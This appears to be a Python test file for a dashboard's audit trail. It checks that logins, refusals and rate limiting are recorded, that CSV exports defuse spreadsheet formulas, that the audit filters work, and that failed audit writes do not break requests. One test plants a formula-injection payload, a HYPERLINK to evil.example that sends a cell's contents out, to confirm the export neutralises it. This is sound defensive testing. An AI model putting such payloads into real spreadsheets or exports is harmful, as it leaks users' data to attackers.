"""The audit trail's other sources on real PostgreSQL: logins and logouts (password mode),
refused logins and rate limiting; exports that cannot smuggle spreadsheet formulas; the
audit page's filters; and recording that never fails the request it describes."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import asyncpg
import pytest
from litestar.testing import AsyncTestClient

from dashboard.app import create_app
from dashboard.audit import log as audit_log
from dashboard.audit.log import json_safe
from dashboard.audit.query import entry_json, to_csv
from dashboard.audit.repo import AuditEntry
from dashboard.auth import users
from dashboard.settings import Settings
from tests.approval_support import dashboard
from tests.migrate import alembic_to
from tests.runs_support import BASE, DEMO


async def test_logins_logouts_and_refusals_are_audited(
    db_url: str, plain_db_url: str, tmp_path: Path
) -> None:
    users_file = tmp_path / "users.txt"
    users.add(users_file, "carol", "a long enough password")
    app = create_app(
        Settings.from_env(
            {
                "DASHBOARD_DATABASE_URL": db_url,
                "DASHBOARD_SECRET_KEY": "k" * 32,
                "DASHBOARD_AUTH_MODE": "password",
                "DASHBOARD_USERS_FILE": str(users_file),
                "DASHBOARD_ROLES": "carol=operator",
            }
        )
    )
    async with AsyncTestClient(app) as client:
        await client.get("/login")
        token = str(client.cookies.get("csrftoken"))

        async def login(name: str, password: str) -> Any:
            return await client.post(
                "/login",
                data={"username": name, "password": password, "_csrf_token": token},
                follow_redirects=False,
            )

        assert (await login("carol", "wrong password!")).status_code == 401
        assert (await login("mallory", "whatever it is")).status_code == 401
        assert (await login("carol", "a long enough password")).status_code in (302, 303)
        assert (await client.post("/api/runs", json={})).status_code == 403  # no CSRF header
        out = await client.post("/logout", headers={"x-csrftoken": token}, follow_redirects=False)
        assert out.status_code in (302, 303)
        for _ in range(5):
            await login("carol", "nope nope nope")
        assert (await login("carol", "a long enough password")).status_code == 429

        # rate limited (and signed out): read the table itself
        conn = await asyncpg.connect(plain_db_url)
        try:
            entries = [
                dict(r) | {"detail": json.loads(r["detail"])}
                for r in await conn.fetch("SELECT * FROM dashboard.audit ORDER BY id DESC")
            ]
        finally:
            await conn.close()
        story = [(e["actor"], e["action"], e["outcome"]) for e in reversed(entries)]
        assert story[:5] == [
            ("carol", "login", "failed"),
            ("mallory", "login", "failed"),
            ("carol", "login", "ok"),
            ("carol", "run.request", "denied"),
            ("carol", "logout", "ok"),
        ]
        # 5 more wrong passwords: failures until the limit, then refusals; the last try
        # (right password) is refused too. One row per attempt, never two.
        rest = story[5:]
        assert len(rest) == 6 and set(rest) == {
            ("carol", "login", "failed"),
            ("carol", "login", "denied"),
        }
        assert rest[-1] == ("carol", "login", "denied")
        assert {e["address"] for e in entries} == {"testclient"}
        csrf_row = next(e for e in entries if e["action"] == "run.request")
        assert "CSRF" in csrf_row["detail"]["error"] and csrf_row["detail"]["status_code"] == 403


async def test_exports_defuse_formulas_and_filters_work(db_url: str) -> None:
    await alembic_to(db_url, DEMO, BASE)
    async with dashboard(db_url, DASHBOARD_ROLES="carol=operator,bob=approver,*=operator") as api:
        evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
        run_id = (await api.request_run(evil, [BASE]))["id"]
        r = await api.post("bob", f"/api/runs/{run_id}/reject", {"reason": "+1 -1 @SUM(A1:A9)"})
        assert r.status_code == 200
        export = await api.get("vic", "/audit.csv")
        rows = list(csv.DictReader(io.StringIO(export.text)))
        request_row = next(r for r in rows if r["action"] == "run.request")
        assert request_row["actor"] == "'" + evil
        assert all(not v.startswith(("=", "+", "-", "@")) for row in rows for v in row.values())
        # the JSON keeps the exact values
        entries = await api.audit(action="run.request")
        assert entries[0]["actor"] == evil
        # the page's filters narrow the table the same way as the API
        page = await api.get("vic", "/audit", actor="bob", outcome="rejected")
        assert page.text.count("data-audit-id=") == 1 and 'data-action="run.reject"' in page.text
        bad = await api.get("vic", "/audit", since="not a date")
        assert bad.status_code == 400 and 'id="audit-error"' in bad.text
        assert (await api.get("vic", "/api/audit", limit="0")).status_code == 400
        prefix = await api.audit(action="run.*")
        assert {e["action"] for e in prefix} == {"run.request", "run.reject"}
        assert await api.audit(action="run") == []  # exact unless it ends with *


async def test_recording_never_fails_the_request(
    db_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    await alembic_to(db_url, DEMO, BASE)
    async with dashboard(db_url) as api:
        run_id = (await api.request_run("carol", [BASE]))["id"]

        async def broken(*_: Any, **__: Any) -> int:
            raise RuntimeError("audit table unreachable")

        # the one INSERT every audit row goes through (AuditLog.write and .record)
        monkeypatch.setattr(audit_log, "insert_row", broken)
        try:
            denied = await api.post("vic", f"/api/runs/{run_id}/approve")
            assert denied.status_code == 403 and "needs approver" in denied.json()["error"]
            missing = await api.post("bob", "/api/runs/999/approve")
            assert missing.status_code == 404
        finally:
            monkeypatch.undo()
        assert (await api.post("bob", f"/api/runs/{run_id}/approve")).status_code == 200


def test_detail_is_made_json_safe_in_one_place() -> None:
    at = datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)
    detail = {"at": at, "day": at.date(), "tags": {"b", "a"}, "nested": {"n": 1}, "x": Path("/p")}
    assert json_safe(detail) == {
        "at": "2026-01-02T03:04:05+00:00",
        "day": "2026-01-02",
        "tags": ["a", "b"],
        "nested": {"n": 1},
        "x": "/p",
    }
    entry = AuditEntry(1, at, "ann", None, "login", None, "ok", {"k": "v"})
    assert entry_json(entry)["at"] == "2026-01-02T03:04:05+00:00"
    assert list(csv.reader(io.StringIO(to_csv([entry]))))[1][:3] == [
        "1",
        "2026-01-02T03:04:05+00:00",
        "ann",
    ]
